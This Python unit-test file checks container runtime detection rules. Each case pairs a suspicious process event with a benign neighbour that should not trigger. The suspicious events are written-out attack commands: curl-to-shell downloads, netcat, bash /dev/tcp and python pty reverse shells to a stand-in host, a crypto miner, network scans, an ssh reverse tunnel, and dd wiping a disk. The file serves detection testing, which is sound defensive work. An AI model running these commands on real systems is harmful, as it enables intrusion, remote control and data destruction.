"""Rules about what starts in a container: one event that each is for, one neighbour."""

from tests.unit.default_rules.made import ENTRY, EXECED, Case, connects, event, failed, runs

_BY_SHELL = {"proc__pname": "bash", "proc__pexe": "bash", "proc__aname": ("bash", "orders")}
_BY_NGINX = {"proc__pname": "nginx", "proc__pexe": "nginx", "proc__aname": ("nginx", "nginx")}
_BY_PYTHON = {"proc__pname": "python3.11", "proc__pexe": "python3", "proc__aname": ("python3.11",)}
_BY_NPM = {"proc__pname": "node", "proc__pexe": "node", "proc__aname": ("node", "npm")}
_UPPER = {"proc__is_exe_upper_layer": True}

CASES = (
    Case(
        "Terminal shell in a container",
        runs("bash", proc__tty=34816, **EXECED),
        runs("bash -c exit", proc__tty=34816, **_BY_SHELL),
        "a shell's own shell: the first one was reported",
    ),
    Case(
        "Shell started from outside in a container",
        runs("sh -c id", **EXECED),
        runs("sh /srv/start.sh", **{**EXECED, "proc__vpid": 1}),
        "the container's entry script",
    ),
    Case(
        "Encoded command run by a shell",
        runs("sh -c echo aWQK | base64 -d | sh", **ENTRY),
        runs("sh -c echo aWQK | base64 -d > /srv/key", **ENTRY),
        "what is decoded does not run",
    ),
    Case(
        "Download piped into an interpreter",
        runs("sh -c curl -s http://192.0.2.1/x | sh", **_BY_SHELL),
        runs("sh -c curl -s http://127.0.0.1:8000/healthz", **_BY_SHELL),
        "a health check runs nothing that it fetched",
    ),
    Case(
        "Reverse shell command line",
        runs("nc 192.0.2.1 4444 -e /bin/sh", **_BY_SHELL),
        runs("nc -w 2 db 5432", **_BY_SHELL),
        "netcat waits for a database",
    ),
    Case(
        "Reverse shell command line",
        runs("bash -c bash -i >& /dev/tcp/192.0.2.1/4444 0>&1", **_BY_SHELL),
        runs("bash -c echo ready > /dev/stdout", **_BY_SHELL),
        "no connection",
    ),
    Case(
        "Reverse shell command line",
        runs("python3 -c import socket,pty;s=socket.socket();pty.spawn('/bin/sh')"),
        runs("python3 -c import socket;print(socket.gethostname())"),
        "a host name is asked for, no shell",
    ),
    Case(
        "Standard streams joined to a network connection",
        event("dup2", evt__rawres=0, fd__type="ipv4", fd__name="10.88.0.7:41812->192.0.2.1:4444"),
        event("dup2", evt__rawres=1, fd__type="file", fd__name="/var/log/orders.log"),
        "output goes to a log",
    ),
    Case(
        "Standard streams joined to a network connection",
        event("dup3", evt__rawres=2, fd__type="ipv6", fd__name="::1:4812->::1:4444"),
        event("dup", evt__rawres=9, fd__type="ipv4", fd__name="10.88.0.7:41812->192.0.2.1:443"),
        "a copy of a connection at another number",
    ),
    Case(
        "Shell opened a network connection",
        connects("192.0.2.1", 4444, proc__name="bash"),
        connects("192.0.2.1", 443, proc__name="curl", proc__pname="bash"),
        "the program that the shell started connects",
    ),
    Case(
        "Shell spawned by a network service",
        runs("sh -c id", **_BY_NGINX),
        runs("sh -c postgres -V", proc__pname="initdb", proc__pexe="initdb"),
        "a tool asks a program for its version",
    ),
    Case(
        "Shell spawned by an application",
        runs("sh -c echo pong ;id", **_BY_PYTHON),
        runs("sh -c node-gyp rebuild", **_BY_NPM),
        "npm builds a package, which has its own rule",
    ),
    Case(
        "Program executed from memory",
        runs("/proc/self/fd/3", proc__name="3", proc__exepath="/memfd:kworker", proc__is_exe_from_memfd=True),
        runs("/srv/tool"),
        "its file is in the image",
    ),
    Case(
        "Program executed from shared memory",
        runs("/dev/shm/tool"),
        runs("/srv/tool /dev/shm/segment"),
        "shared memory is only an argument",
    ),
    Case(
        "Hidden program executed",
        runs("/srv/.cache-d"),
        runs("/srv/.venv/bin/uvloop-worker"),
        "the folder is hidden, its program is not",
    ),
    Case(
        "Crypto miner started",
        runs("worker -o stratum+tcp://192.0.2.1:3333 -u wallet"),
        runs("worker -o http://192.0.2.1:8080 -u name"),
        "an ordinary address",
    ),
    Case(
        "Crypto miner started",
        runs("/opt/xmrig"),
        runs("/opt/xmlrig"),
        "another name",
    ),
    Case(
        "Package manager run in a container",
        runs("apk add socat", **_BY_SHELL),
        runs("pip install -r requirements.txt", proc__vpid=1),
        "the container was started to do this",
    ),
    Case(
        "Download into a temporary directory",
        runs("curl -o /tmp/x http://192.0.2.1/x", **_BY_SHELL),
        runs("curl -fsS http://127.0.0.1:8000/healthz", **_BY_SHELL),
        "a health check keeps nothing",
    ),
    Case(
        "Network scanner run in a container",
        runs("nc -zv 10.88.0.9 1-1024", **_BY_SHELL),
        runs("nc 10.88.0.9 6379", **_BY_SHELL),
        "one connection to one port",
    ),
    Case(
        "Network scanner run in a container",
        runs("nmap -sT 10.88.0.0/24", **_BY_SHELL),
        runs("getent hosts db", **_BY_SHELL),
        "a name is looked up",
    ),
    Case(
        "Tunnel tool run in a container",
        runs("ssh -N -R 9000:127.0.0.1:80 user@192.0.2.1", **_BY_SHELL),
        runs("ssh git@192.0.2.1 git-upload-pack", **_BY_SHELL),
        "git over ssh forwards nothing",
    ),
    Case(
        "Bulk destruction of data",
        runs("dd if=/dev/zero of=/dev/sda bs=1M", **_BY_SHELL),
        runs("dd if=/srv/data of=/dev/null", **_BY_SHELL),
        "data is only read",
    ),
    Case(
        "Program executed that is not part of the image",
        runs("/srv/dropped", **_UPPER),
        runs("/srv/dropped", proc__aname=("dpkg", "apt-get"), **_UPPER),
        "a package manager's script: its manager was reported",
    ),
    Case(
        "Program executed from a temporary directory",
        runs("/tmp/tool"),
        runs("/srv/tool /tmp/input"),
        "the directory is only an argument",
    ),
    Case(
        "Program executed from a temporary directory",
        runs("sh /var/tmp/job.sh", **_BY_SHELL),
        runs("sh /srv/job.sh", **_BY_SHELL),
        "a script of the image",
    ),
    Case(
        "Terminal shell in a container",
        runs("sh", proc__tty=34816, proc__pname="login", proc__pexe="login"),
        runs("zsh", proc__tty=34816, **failed("EACCES"), **EXECED),
        "it did not start",
    ),
    Case(
        "Shell spawned by a network service",
        runs("sh -c id", proc__pname="postgres", proc__pexe="postgres", proc__aname=("postgres", "sh")),
        runs("sh -c locale -a", proc__pname="postgres", proc__aname=("postgres", "initdb", "start.sh")),
        "initdb lets the server make its catalogue of locales",
    ),
    Case(
        "Program executed that is not part of the image",
        runs("/srv/nmap -sT 10.88.0.0/24", proc__is_exe_upper_layer=True),
        runs("/srv/tool -sT 10.88.0.0/24"),
        "a tool of the image",
    ),
    Case(
        "Reverse shell command line",
        runs("nc 192.0.2.1 4444 -e /bin/sh", proc__name="exe", proc__exepath="/usr/bin/busybox"),
        runs("nc 192.0.2.1 4444", proc__name="exe", proc__exepath="/usr/bin/busybox"),
        "one connection, started by a busybox that is its own shell",
    ),
    Case(
        "Download into a temporary directory",
        runs("wget -O /tmp/x http://192.0.2.1/x", proc__name="exe", proc__exepath="/usr/bin/busybox"),
        runs("wget -O - http://127.0.0.1/healthz", proc__name="exe", proc__exepath="/usr/bin/busybox"),
        "a health check, by a busybox that is its own shell",
    ),
)
